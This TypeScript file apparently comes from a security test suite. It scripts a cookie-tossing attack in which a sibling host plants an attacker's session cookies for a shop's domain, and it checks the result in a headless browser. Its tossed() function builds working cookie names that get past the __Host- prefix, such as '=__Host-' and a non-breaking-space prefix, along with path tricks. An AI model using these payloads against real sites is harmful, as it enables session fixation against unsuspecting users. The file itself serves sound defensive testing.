/** Cookie tossing in a real browser: a sibling host plants cookies for the whole domain. */
import type { Attack } from "../attack.ts";
import { browserShowsCartOf, signedInBrowser, visit, withChromium } from "../chromium.ts";
import type { Client } from "../client.ts";
import { ada, elsewhere, grace, home, shopper } from "../people.ts";
import { theftFrom } from "../theft.ts";
import { hosts } from "../tls-front.ts";

export const attack: Attack = {
  title: "Cookie tossing from a sibling host",
  story:
    "The attacker controls another host of the company's domain, and has an account at the shop. Their page sets the cookies of their own sign-in for the whole domain, in every spelling that a server might take for the shop's, and for a longer path so that they come first. A victim whose browser sends them along, signed in or not, shops in the attacker's account.",
  source: "Cookie Crumbles (USENIX Security 2023); WSTG-SESS-02, SESS-03; ASVS 3.3.1, 3.3.3",
  promised: { kind: "nothing" },
  asDescribed: "holds",
  control: ["host-prefix-dropped", "duplicate-cookies-accepted"],
  target: { tls: true },
  async run(target) {
    const attacker = await shopper(target, grace, elsewhere);
    const theft = await theftFrom(target);
    target.front().attackerServes({ html: "<!doctype html>", setCookies: tossed(attacker) });
    return withChromium(target, async (browser) => {
      const signedOut = await browser.newContext();
      const victim = await signedInBrowser(browser, target, ada);
      for (const context of [signedOut, victim]) {
        await visit(context, `https://${hosts.sibling}:${target.front().port}`);
        await theft.attempt(() => browserShowsCartOf(context, target, grace));
      }
      return theft.measured(() => browserShowsCartOf(victim, target, ada));
    });
  },
};

/** The attacker's cookies for the whole domain, under every name that could pass for the shop's. */
function tossed(attacker: Client): string[] {
  return [...attacker.cookies].flatMap(([full, value]) => {
    const bare = full.replace("__Host-", "");
    const names = [bare, `__Host-${bare}`, `__host-${bare}`, `=__Host-${bare}`, `\u00a0__Host-${bare}`];
    return names.flatMap((name) =>
      ["/", home].map((path) => `${name}=${value}; Domain=company.test; Path=${path}; Secure`),
    );
  });
}
